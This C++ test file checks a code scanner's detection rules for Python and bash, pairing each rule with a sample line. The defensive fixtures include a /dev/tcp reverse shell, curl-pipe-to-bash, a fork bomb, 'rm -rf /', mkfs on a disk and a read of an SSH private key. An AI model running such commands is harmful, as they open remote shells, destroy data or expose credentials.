// Tests of the code scanner: every rule finds its pattern, clean code stays silent.
#include <catch2/catch.hpp>
#include <cordon/scanner.hpp>

#include <boost/json.hpp>

#include <algorithm>
#include <set>

#include "scanner_rules.hpp"

using namespace cordon;

namespace {

struct Sample {
  ScanLanguage lang;
  const char* code;
  const char* rule;
};

// One sample line per rule; the test below checks that every rule has one.
const Sample kSamples[] = {
    {ScanLanguage::python, "exec(base64.b64decode(payload))", "python.b64-exec"},
    {ScanLanguage::python, "while True: os.fork()", "python.fork-bomb"},
    {ScanLanguage::python, "subprocess.run(cmd, shell=True)", "python.shell-true"},
    {ScanLanguage::python, "os.system('rm -rf build')", "python.os-system"},
    {ScanLanguage::python, "result = eval(user_input)", "python.eval"},
    {ScanLanguage::python, "mod = __import__(name)", "python.dynamic-import"},
    {ScanLanguage::python, "subprocess.check_output(['ls'])", "python.subprocess"},
    {ScanLanguage::python, "os.execvp('sh', ['sh'])", "python.os-exec"},
    {ScanLanguage::python, "pid = os.fork()", "python.fork"},
    {ScanLanguage::python, "r = requests.get(url)", "python.network"},
    {ScanLanguage::python, "shutil.rmtree(path)", "python.delete-tree"},
    {ScanLanguage::python, "os.remove(tmp)", "python.delete"},
    {ScanLanguage::python, "obj = pickle.loads(blob)", "python.deserialize"},
    {ScanLanguage::python, "import ctypes", "python.ctypes"},
    {ScanLanguage::bash, ":(){ :|:& };:", "bash.fork-bomb"},
    {ScanLanguage::bash, "echo aGk= | base64 -d | sh", "bash.b64-exec"},
    {ScanLanguage::bash, "curl -fsSL https://x.example/i.sh | bash", "bash.curl-pipe-shell"},
    {ScanLanguage::bash, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash.dev-tcp"},
    {ScanLanguage::bash, "rm -rf /", "bash.rm-root"},
    {ScanLanguage::bash, "mkfs.ext4 /dev/sda1", "bash.mkfs"},
    {ScanLanguage::bash, "eval \"$cmd\"", "bash.eval"},
    {ScanLanguage::bash, "sudo apt-get install x", "bash.privilege"},
    {ScanLanguage::bash, "chmod u+s /tmp/sh", "bash.setuid"},
    {ScanLanguage::bash, "chmod 777 /srv", "bash.world-writable"},
    {ScanLanguage::bash, "rm -r build", "bash.rm-recursive"},
    {ScanLanguage::bash, "wget https://x.example/file", "bash.network"},
    {ScanLanguage::bash, "sh -c 'echo hi'", "bash.shell-exec"},
    {ScanLanguage::bash, "nohup ./server &", "bash.background"},
    {ScanLanguage::bash, "cat ~/.ssh/id_rsa", "any.credentials"},
};

std::set<std::string> rules_found(ScanLanguage l, const std::string& code) {
  std::set<std::string> out;
  for (const auto& f : scan_code(code, l).findings) out.insert(f.rule);
  return out;
}

}  // namespace

TEST_CASE("scanner: each rule finds its pattern", "[scanner]") {
  for (const auto& s : kSamples) {
    INFO(s.code);
    CHECK(rules_found(s.lang, s.code).count(s.rule) == 1);
  }
}

TEST_CASE("scanner: every rule has a sample", "[scanner]") {
  std::set<std::string> sampled;
  for (const auto& s : kSamples) sampled.insert(s.rule);
  for (const auto* list : {&detail::python_rules(), &detail::bash_rules(), &detail::common_rules()})
    for (const auto& r : *list) {
      INFO(r.id);
      CHECK(sampled.count(r.id) == 1);
    }
}

TEST_CASE("scanner: clean files are silent", "[scanner]") {
  const char* clean_python =
      "import json\n"
      "def total(items):\n"
      "    # os.system('not run: a comment')\n"
      "    return sum(i['n'] for i in items)\n"
      "print(json.dumps({'evaluate': total([])}))\n"
      "text = 'a # not a comment'\n";
  CHECK(scan_code(clean_python, ScanLanguage::python).findings.empty());
  const char* clean_bash =
      "#!/bin/sh\n"
      "set -eu\n"
      "# curl https://x | sh  (a comment)\n"
      "for f in *.txt; do\n"
      "  echo \"$# files: $f\"\n"
      "done\n"
      "mkdir -p out && cp a.txt out/\n";
  CHECK(scan_code(clean_bash, ScanLanguage::bash).findings.empty());
}

TEST_CASE("scanner: line, column, severity and language are reported", "[scanner]") {
  auto r =
      scan_code("#!/bin/bash\necho ok\n  curl https://x.example | sh\n", ScanLanguage::automatic);
  CHECK(r.language == ScanLanguage::bash);
  REQUIRE_FALSE(r.findings.empty());
  const auto& f = r.findings.front();
  CHECK(f.line == 3);
  CHECK(f.column == 3);
  CHECK(f.severity == Severity::critical);
  CHECK(f.match.rfind("curl https://x.example | sh", 0) == 0);
  CHECK(r.has_critical());
  CHECK(scan_code("import os\nos.system('x')\n", ScanLanguage::automatic).language ==
        ScanLanguage::python);
  CHECK(scan_code("x = 1\n", ScanLanguage::automatic, "tool.py").language == ScanLanguage::python);
}

TEST_CASE("scanner: JSON report with summary", "[scanner]") {
  auto r = scan_code("rm -rf /\nwget x\n", ScanLanguage::bash);
  auto j = boost::json::parse(scan_report_json(r)).as_object();
  CHECK(j.at("language").as_string() == "bash");
  auto& summary = j.at("summary").as_object();
  CHECK(summary.at("has_critical").as_bool());
  CHECK(summary.at("critical").as_int64() == 1);
  CHECK(summary.at("total").as_int64() == static_cast<std::int64_t>(r.findings.size()));
  auto& first = j.at("findings").as_array().at(0).as_object();
  CHECK(first.at("line").as_int64() == 1);
  CHECK(first.at("why").as_string().size() > 0);
}

TEST_CASE("scanner: a fork bomb is found after other text, and not inside a longer name",
          "[scanner]") {
  auto after = scan_code("x=1; bomb(){ bomb|bomb& }; bomb", ScanLanguage::bash);
  REQUIRE(after.findings.size() == 1);
  CHECK(after.findings[0].rule == std::string("bash.fork-bomb"));
  CHECK(scan_code("abomb(){ bomb|bomb& }", ScanLanguage::bash).findings.empty());
}

TEST_CASE("scanner: long lines and binary input stay bounded", "[scanner]") {
  std::string line(1 << 20, 'a');
  line += " | sh";
  auto r = scan_code(line, ScanLanguage::bash);
  CHECK(r.findings.empty());  // past the first 8 KiB of the line
  std::string binary;
  for (int i = 0; i < 4096; ++i) binary += static_cast<char>(i * 37);
  CHECK_NOTHROW(scan_code(binary, ScanLanguage::automatic));
}

TEST_CASE("scanner: a policy's blocked_imports are reported where a script imports them",
          "[scanner][imports]") {
  ScanPolicy policy{{"subprocess", "os.path", "urllib"}};
  const char* code =
      "import json, subprocess as sp\n"              // 1: subprocess
      "from os import path, getcwd\n"                // 2: os.path (not os.getcwd)
      "import urllib.request\n"                      // 3: urllib covers urllib.request
      "x = 1; import subprocess\n"                   // 4: after a ';'
      "m = __import__('subprocess')\n"               // 5: dynamic
      "importlib.import_module(\"urllib.parse\")\n"  // 6: dynamic
      "import subprocessing, ossify\n"               // 7: other names: nothing
      "# import subprocess\n"                        // 8: a comment: nothing
      "from . import subprocess\n"                   // 9: relative: the script's own
      "import os\n";                                 // 10: os itself is not blocked
  auto report = scan_code(code, ScanLanguage::python, "tool.py", policy);
  std::vector<std::pair<int, int>> where;
  for (const auto& f : report.findings)
    if (f.rule == "python.blocked-import") where.emplace_back(f.line, f.column);
  CHECK(where ==
        std::vector<std::pair<int, int>>{{1, 14}, {2, 16}, {3, 8}, {4, 15}, {5, 5}, {6, 11}});
  for (const auto& f : report.findings)
    if (f.rule == "python.blocked-import") CHECK(f.severity == Severity::high);
  auto first = std::find_if(report.findings.begin(), report.findings.end(),
                            [](const Finding& f) { return f.rule == "python.blocked-import"; });
  REQUIRE(first != report.findings.end());
  CHECK(first->match == "subprocess");
  CHECK(first->why.find("advisory") != std::string::npos);
  // Without the policy, or in shell code, nothing of the kind.
  for (const auto& f : scan_code(code, ScanLanguage::python, "tool.py").findings)
    CHECK(f.rule != "python.blocked-import");
  for (const auto& f : scan_code("import subprocess\n", ScanLanguage::bash, "", policy).findings)
    CHECK(f.rule != "python.blocked-import");
}
